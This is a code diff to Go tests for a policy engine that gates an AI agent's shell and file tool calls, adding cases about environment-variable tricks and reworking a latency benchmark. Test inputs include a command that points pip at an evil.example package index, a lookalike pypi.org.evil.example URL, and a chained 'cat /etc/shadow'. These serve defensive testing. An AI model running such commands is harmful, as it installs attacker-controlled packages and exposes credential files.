@@ -248,6 +248,8 @@ func TestGrants(t *testing.T) {
 		{"prefix is by words", "curl https://pypi.org.evil.example/x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Ask},
 		{"prefix by words matches", "curl https://pypi.org -o x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Allow},
 		{"grants never override a deny", "pip install requests && cat /etc/shadow", exact, policy.Deny},
+		{"a prefix does not cover environment assignments", "PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
+		{"nor an env wrapper", "env PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
 		{"grant for another tool", "pip install requests", []policy.Grant{{ID: "g", Tool: "fetch_url", Exact: "pip install requests"}}, policy.Ask},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -318,19 +320,28 @@ func BenchmarkDecide100Rules(b *testing.B) {
 	if e.Len() != 100 {
 		b.Fatalf("%d rules", e.Len())
 	}
-	c := bashCall("cd src && grep -rn TODO . | head -20 && python -m pytest -x tests/test_api.py 2>&1 | tail -30")
-	lat := make([]time.Duration, 0, b.N)
-	b.ResetTimer()
-	for range b.N {
-		t0 := time.Now()
-		d := e.Decide(b.Context(), c)
-		lat = append(lat, time.Since(t0))
-		if d.Effect != policy.Allow {
-			b.Fatal(d.Reason)
-		}
+	write := &policy.Call{Principal: "dev", Tool: "write_file", Effect: "workspace_write", Arguments: json.RawMessage(`{"path":"src/app.py","content":"x"}`), Paths: []string{"src/app.py"}}
+	for _, bc := range []struct {
+		name string
+		call *policy.Call
+	}{
+		{"bash_1_part", bashCall("ls -la src")},
+		{"bash_5_parts", bashCall("cd src && grep -rn TODO . | head -20 && python -m pytest -x tests/test_api.py 2>&1 | tail -30")},
+		{"write_file", write},
+	} {
+		b.Run(bc.name, func(b *testing.B) {
+			lat := make([]time.Duration, 0, b.N)
+			for b.Loop() {
+				t0 := time.Now()
+				d := e.Decide(b.Context(), bc.call)
+				lat = append(lat, time.Since(t0))
+				if d.Effect != policy.Allow {
+					b.Fatal(d.Reason)
+				}
+			}
+			slices.Sort(lat)
+			b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
+			b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
+		})
 	}
-	b.StopTimer()
-	slices.Sort(lat)
-	b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
-	b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
 }
